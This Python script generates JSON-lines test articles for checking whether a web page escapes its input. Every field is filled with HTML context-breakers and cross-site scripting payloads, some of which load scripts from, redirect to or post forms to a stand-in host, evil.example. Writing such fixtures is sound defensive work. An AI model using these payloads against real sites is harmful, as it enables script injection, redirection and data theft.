#!/usr/bin/env python3
"""Articles, one a line of JSON, whose every field has texts that a careless page
would run or take for markup: 520 different ones in each field, ten an article,
and a number, without which some would be copies of others.
Escaped where markup is removed when they are read, so that they are stored.
"""
import html
import json

STARTS = ["", "\">", "'>", "</title>", "</script>", "</style>", "-->", "]]>", "</textarea>", "</p></article>",
          "\u00ad<b>", "\u2028", "{{7*7}}"]
ENDS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>", "<object data=//evil.example>", "<embed src=//evil.example>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>", "<body onload=alert(1)>",
    "<form action=//evil.example><input name=q>", "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html,alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<template><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=javascript:alert(1)?>",
    "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\x3cscript\\x3ealert(1)",
    "\\u003cimg src=x onerror=alert(1)\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)",
    "javascript:alert(1)", "JaVaScRiPt&colon;alert(1)", "\u202e>tpircs<", "\ufeff<script>alert(1)</script>",
    "${alert(1)}", "'-alert(1)-'"]
AN_ARTICLE = 10

payloads = [start + end for start in STARTS for end in ENDS]
for number in range(0, len(payloads), AN_ARTICLE):
    some = payloads[number:number + AN_ARTICLE]
    text = " ".join(some)
    print(json.dumps({
        "id": f"{number} {''.join(some[:3])}"[:200], "lang": "en", "date": "2024-05-10",
        "title": html.escape(f"Numbat {text}"), "byline": html.escape(text), "source": text, "section": text, "url": f"https://desk.example/{text}",
        "text": html.escape(". ".join(f"Numbat {number} said {payload}" for payload in some) + ".")}))
